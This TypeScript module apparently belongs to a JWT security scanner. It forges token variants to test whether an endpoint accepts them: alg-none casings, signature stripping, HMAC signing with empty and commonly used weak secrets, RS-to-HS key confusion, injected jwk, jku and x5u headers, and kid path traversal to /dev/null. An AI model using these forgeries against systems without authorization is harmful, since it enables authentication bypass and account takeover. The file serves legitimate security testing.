/**
 * JWT gateway checks: from one valid token (the positive control) build forged variants and see which
 * the endpoint accepts. Tokens are built with `jose`; the few variants jose refuses to make on purpose
 * (unsigned `alg` casings, zero-length HMAC keys, payloads kept with a foreign signature) are assembled
 * by hand from base64url parts with node:crypto, because producing them is the point of the test.
 */
import { createHmac, type webcrypto } from 'node:crypto';
/** Web Crypto key as jose returns it (the global `CryptoKey` type is DOM-only in some lib settings). */
type CryptoKey = webcrypto.CryptoKey;
import * as jose from 'jose';
import { redact } from '../core/redact.js';
import { JWT_RULES, type JwtRuleKey } from './jwt-rules.js';

export interface JwtVariant {
  /** Stable id shown in reports, e.g. `alg-none:NONE`, `weak-hmac:secret`. */
  id: string;
  rule: JwtRuleKey;
  /** The Authorization header value; undefined = send no Authorization header. */
  authorization: string | undefined;
  /** For weak-key variants: the key, so that claim variants can be signed with it once found. */
  hmacKey?: Uint8Array;
}

export class JwtInputError extends Error {}

/** Common weak HMAC secrets (framework defaults, tutorials, jwt.io's example secret). */
export const WEAK_HMAC_KEYS = ['secret', 'your-256-bit-secret', 'password', 'changeme', 'secretkey', 'jwt_secret', 'jwtsecret', '123456', 'key', 'test', 'admin', 'supersecret', 'default', 'shhhhh'];

const enc = new TextEncoder();
const b64 = (v: unknown): string => Buffer.from(typeof v === 'string' ? v : JSON.stringify(v)).toString('base64url');

export interface DecodedToken {
  header: jose.ProtectedHeaderParameters;
  payload: jose.JWTPayload;
  parts: [string, string, string];
}

export function decodeToken(token: string): DecodedToken {
  const parts = token.trim().split('.');
  if (parts.length !== 3) throw new JwtInputError('--jwt is not a compact JWS (three dot-separated parts)');
  try {
    return { header: jose.decodeProtectedHeader(token), payload: jose.decodeJwt(token), parts: parts as [string, string, string] };
  } catch (err) {
    throw new JwtInputError(`--jwt cannot be decoded: ${(err as Error).message}`);
  }
}

/** HMAC-signs header.payload by hand (jose rightly refuses zero-length keys; the attack needs them). */
export function hmacToken(header: Record<string, unknown>, payload: unknown, key: Uint8Array): string {
  const alg = String(header.alg ?? 'HS256');
  const hash = alg === 'HS384' ? 'sha384' : alg === 'HS512' ? 'sha512' : 'sha256';
  const input = `${b64(header)}.${b64(payload)}`;
  return `${input}.${createHmac(hash, key).update(input).digest('base64url')}`;
}

function hmacAlg(alg: unknown): string {
  return typeof alg === 'string' && /^HS(256|384|512)$/.test(alg) ? alg : 'HS256';
}

function keepHeader(h: jose.ProtectedHeaderParameters): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  if (h.typ) out.typ = h.typ;
  if (h.kid) out.kid = h.kid;
  return out;
}

/** The structural variants: need nothing but the valid token (and the public keys for key confusion). */
export async function forgedVariants(token: string, publicKeys: jose.JWK[] = []): Promise<JwtVariant[]> {
  const t = decodeToken(token);
  const [h, p, s] = t.parts;
  const out: JwtVariant[] = [
    { id: 'no-token', rule: 'missing', authorization: undefined },
    { id: 'empty-token', rule: 'missing', authorization: 'Bearer ' },
    { id: 'malformed-token', rule: 'missing', authorization: 'Bearer aigis.probe.malformed' },
  ];
  for (const alg of ['none', 'None', 'NONE', 'nOnE']) {
    out.push({ id: `alg-none:${alg}`, rule: 'algNone', authorization: `Bearer ${b64({ ...keepHeader(t.header), alg })}.${p}.` });
  }
  const tampered = { ...t.payload, aigis_probe: 'tampered', ...(typeof t.payload.sub === 'string' ? { sub: `${t.payload.sub}-aigis-probe` } : {}) };
  out.push({ id: 'tampered-payload', rule: 'signature', authorization: `Bearer ${h}.${b64(tampered)}.${s}` });
  out.push({ id: 'stripped-signature', rule: 'signature', authorization: `Bearer ${h}.${p}.` });

  const alg = hmacAlg(t.header.alg);
  const weakPayload = { ...t.payload, aigis_probe: 'weak-key' };
  out.push({ id: 'weak-hmac:(empty)', rule: 'weakKey', authorization: `Bearer ${hmacToken({ ...keepHeader(t.header), alg }, weakPayload, new Uint8Array(0))}`, hmacKey: new Uint8Array(0) });
  for (const k of WEAK_HMAC_KEYS) {
    const key = enc.encode(k);
    const signed = await new jose.SignJWT(weakPayload).setProtectedHeader({ ...keepHeader(t.header), alg }).sign(key);
    out.push({ id: `weak-hmac:${k}`, rule: 'weakKey', authorization: `Bearer ${signed}`, hmacKey: key });
  }

  // RS/ES → HS confusion: the public key's PEM text as the HMAC secret (with and without the final newline,
  // the two forms libraries have read keys in).
  let n = 0;
  for (const jwk of publicKeys) {
    if (n >= 3 || (jwk.kty !== 'RSA' && jwk.kty !== 'EC')) continue;
    n++;
    let pem: string;
    try {
      const key = await jose.importJWK({ ...jwk, d: undefined }, jwk.alg ?? (jwk.kty === 'RSA' ? 'RS256' : jwk.crv === 'P-384' ? 'ES384' : 'ES256'));
      pem = await jose.exportSPKI(key as CryptoKey);
    } catch {
      continue;
    }
    const header = { ...keepHeader(t.header), alg: 'HS256', ...(jwk.kid ? { kid: jwk.kid } : {}) };
    const payload = { ...t.payload, aigis_probe: 'key-confusion' };
    for (const [suffix, secret] of [['pem', pem.endsWith('\n') ? pem : `${pem}\n`], ['pem-trimmed', pem.trimEnd()]] as const) {
      out.push({ id: `key-confusion:${jwk.kid ?? n}:${suffix}`, rule: 'confusion', authorization: `Bearer ${hmacToken(header, payload, enc.encode(secret))}` });
    }
  }

  // Keys named by the token itself: an attacker key embedded (jwk) or pointed at (jku, x5u).
  const { publicKey, privateKey } = await jose.generateKeyPair('RS256', { extractable: true });
  const attackerJwk = await jose.exportJWK(publicKey);
  const injected = { ...t.payload, aigis_probe: 'header-key' };
  const sign = (header: jose.JWTHeaderParameters): Promise<string> => new jose.SignJWT(injected).setProtectedHeader(header).sign(privateKey);
  out.push({ id: 'embedded-jwk', rule: 'headerKey', authorization: `Bearer ${await sign({ alg: 'RS256', typ: 'JWT', jwk: attackerJwk })}` });
  out.push({ id: 'spoofed-jku', rule: 'headerKey', authorization: `Bearer ${await sign({ alg: 'RS256', typ: 'JWT', kid: 'aigis-probe', jku: 'https://aigis-probe.invalid/.well-known/jwks.json' })}` });
  out.push({ id: 'spoofed-x5u', rule: 'headerKey', authorization: `Bearer ${await sign({ alg: 'RS256', typ: 'JWT', x5u: 'https://aigis-probe.invalid/cert.pem' })}` });

  // kid path traversal: a key file that exists everywhere and is empty, so the HMAC key is empty too.
  for (const kid of ['../../../../../../../../../../dev/null', '/dev/null']) {
    out.push({ id: `kid-traversal:${kid.startsWith('/') ? 'absolute' : 'relative'}`, rule: 'kid', authorization: `Bearer ${hmacToken({ typ: 'JWT', alg: 'HS256', kid }, { ...t.payload, aigis_probe: 'kid' }, new Uint8Array(0))}` });
  }
  return out;
}

/** Signs claim variants: the user's key (--jwt-key), a weak key found above, or the original signature when it is not checked. */
export type ClaimSigner = (payload: jose.JWTPayload) => Promise<string>;

export async function signerFromKey(token: string, keyText: string): Promise<ClaimSigner> {
  const t = decodeToken(token);
  const alg = String(t.header.alg);
  const header = { ...keepHeader(t.header), alg };
  let key: CryptoKey | Uint8Array;
  const trimmed = keyText.trim();
  try {
    if (trimmed.startsWith('-----BEGIN')) key = await jose.importPKCS8(trimmed, alg);
    else if (trimmed.startsWith('{')) key = (await jose.importJWK(JSON.parse(trimmed) as jose.JWK, alg)) as CryptoKey | Uint8Array;
    else key = enc.encode(keyText);
  } catch (err) {
    throw new JwtInputError(`--jwt-key cannot be used for ${alg}: ${(err as Error).message}`);
  }
  if (key instanceof Uint8Array && key.length === 0) return async (payload) => hmacToken(header, payload, key as Uint8Array);
  return (payload) => new jose.SignJWT(payload).setProtectedHeader(header).sign(key);
}

export function signerFromHmac(token: string, key: Uint8Array): ClaimSigner {
  const t = decodeToken(token);
  const header = { ...keepHeader(t.header), alg: hmacAlg(t.header.alg) };
  return async (payload) => hmacToken(header, payload, key);
}

/** With signatures unchecked, the claims are what is left to test: keep the original header and signature. */
export function signerKeepingSignature(token: string): ClaimSigner {
  const t = decodeToken(token);
  return async (payload) => `${t.parts[0]}.${b64(payload)}.${t.parts[2]}`;
}

/** exp / nbf / aud / iss variants; other claims kept, a live `exp` so only the tested claim is wrong. */
export async function claimVariants(token: string, sign: ClaimSigner, nowSeconds: number): Promise<JwtVariant[]> {
  const { payload } = decodeToken(token);
  const live = { ...payload, iat: nowSeconds, ...(payload.exp !== undefined ? { exp: nowSeconds + 600 } : {}) };
  delete live.nbf;
  const make = async (id: string, rule: JwtRuleKey, p: jose.JWTPayload): Promise<JwtVariant> => ({ id, rule, authorization: `Bearer ${await sign(p)}` });
  return [
    await make('expired-exp', 'expired', { ...live, iat: nowSeconds - 7200, exp: nowSeconds - 3600 }),
    await make('future-nbf', 'notBefore', { ...live, nbf: nowSeconds + 3600 }),
    await make('wrong-aud', 'audience', { ...live, aud: 'https://aigis-probe.invalid/wrong-audience' }),
    await make('wrong-iss', 'issuer', { ...live, iss: 'https://aigis-probe.invalid/wrong-issuer' }),
  ];
}

/** Public keys from a JWKS document (or one JWK). */
export function keysFromJwks(doc: unknown): jose.JWK[] {
  if (!doc || typeof doc !== 'object') throw new JwtInputError('--jwks is not a JSON object');
  const keys = (doc as { keys?: unknown }).keys;
  const list = Array.isArray(keys) ? keys : [doc];
  return list.filter((k): k is jose.JWK => !!k && typeof k === 'object' && typeof (k as jose.JWK).kty === 'string');
}

export type Outcome = 'rejected' | 'accepted' | 'server-error' | 'other';

/** 401/403 is the only correct rejection; 2xx is an accepted forgery; 5xx an error; the rest is noted. */
export function outcomeOf(status: number): Outcome {
  if (status === 401 || status === 403) return 'rejected';
  if (status >= 200 && status < 300) return 'accepted';
  if (status >= 500) return 'server-error';
  return 'other';
}

/** A weak key, as evidence: never the key itself beyond core/redact's prefix. */
export function describeKey(variantId: string): string {
  if (!variantId.startsWith('weak-hmac:')) return variantId;
  const k = variantId.slice('weak-hmac:'.length);
  return k === '(empty)' ? 'weak-hmac:(empty key)' : `weak-hmac:${redact(k, 2)}`;
}

export { JWT_RULES };
